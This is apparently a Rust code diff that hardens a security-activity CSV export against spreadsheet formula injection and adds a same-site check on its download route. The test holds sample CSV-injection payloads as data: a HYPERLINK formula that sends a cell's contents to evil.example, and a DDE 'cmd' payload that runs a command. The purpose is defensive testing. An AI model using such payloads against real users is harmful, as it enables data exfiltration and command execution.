@@ -47,15 +47,30 @@ struct JsonExport<'a> {
     events: Vec<Row<'a>>,
 }
 
+/// What makes a spreadsheet cell a formula when it starts one.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
 /// A spreadsheet would run a cell that starts with = + - @ (or a tab or return) as a formula; such
 /// cells (a user agent or a location anyone can send) start with an apostrophe instead (OWASP, CSV
-/// injection).
+/// injection). A spreadsheet may also cut a line at characters this file does not quote: a
+/// semicolon (the list separator of Excel in German, French, Spanish… locales) or a tab. So where
+/// one of those, or a comma or line break, is followed by a formula's start, a space goes between:
+/// the piece a spreadsheet cuts off there starts with a space, which is text. (A user agent's
+/// usual "; " and ", " are left as they are.)
 fn cell(value: &str) -> String {
-    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
-        format!("'{value}")
-    } else {
-        value.to_string()
+    let mut out = String::with_capacity(value.len() + 1);
+    if value.starts_with(FORMULA_START) {
+        out.push('\'');
     }
+    let mut after_separator = false;
+    for c in value.chars() {
+        if after_separator && FORMULA_START.contains(&c) {
+            out.push(' ');
+        }
+        out.push(c);
+        after_separator = matches!(c, ';' | ',' | '\t' | '\r' | '\n');
+    }
+    out
 }
 
 fn csv(events: &[Activity]) -> Result<Vec<u8>, csv::Error> {
@@ -73,10 +88,17 @@ pub async fn download(
     Path(file): Path<String>,
     Query(query): Query<HashMap<String, String>>,
     Extension(CurrentSession(session)): Extension<CurrentSession>,
+    headers: axum::http::HeaderMap,
 ) -> Response {
     let Some(session) = session else {
         return (StatusCode::UNAUTHORIZED, "Sign in to download your security activity.").into_response();
     };
+    // Only the site's own pages (or the address typed) download it: another site's link (an
+    // email's, say) gets the page. A file of the owner's activity from the genuine site is
+    // trusted, and a stranger's failed sign-in writes its user agent into it.
+    if headers.get("sec-fetch-site").is_some_and(|v| v != "same-origin" && v != "none") {
+        return (StatusCode::SEE_OTHER, [(header::LOCATION, HeaderValue::from_static(app::nav::HOME))]).into_response();
+    }
     let format = match file.as_str() {
         "activity.csv" => "csv",
         "activity.json" => "json",
@@ -135,5 +157,31 @@ mod tests {
         assert_eq!(cell("=HYPERLINK(\"http://x\")"), "'=HYPERLINK(\"http://x\")");
         assert_eq!(cell("@SUM(1)"), "'@SUM(1)");
         assert_eq!(cell("Chrome 131 on Windows 10"), "Chrome 131 on Windows 10");
+    }
+
+    /// A stranger's failed sign-in puts their user agent in the owner's download: cut at a
+    /// semicolon (Excel in a German or French locale) or a tab, no piece may start a formula.
+    #[test]
+    fn no_piece_a_spreadsheet_cuts_at_a_semicolon_or_tab_starts_a_formula() {
+        let ua = "Mozilla/5.0 ;=HYPERLINK(\"http://evil.example/?\"&A2);\t+1;-1,@SUM(1)\n=2";
+        let activity = domain::auth::activity::Activity {
+            id: uuid::Uuid::nil(),
+            kind: domain::kinds::EventKind::SignInFailed,
+            sentence: "Failed sign-in: wrong password".into(),
+            at: time::OffsetDateTime::UNIX_EPOCH,
+            device: "Unknown browser on Unknown OS".into(),
+            user_agent: Some(ua.into()),
+            location: Some("Lisbon;=cmd|' /C calc'!A0".into()),
+            ip: Some("203.0.113.77".into()),
+        };
+        let body = String::from_utf8(csv(&[activity]).unwrap()).unwrap();
+        for piece in body.split([';', '\t', ',', '\n', '\r']) {
+            let piece = piece.trim_start_matches('"');
+            assert!(!piece.starts_with(FORMULA_START), "{piece:?} in {body:?}");
+        }
+        // the usual user agent reads as sent
+        assert_eq!(cell("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"),
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)");
+        assert_eq!(cell("a;=1"), "a; =1");
     }
 }
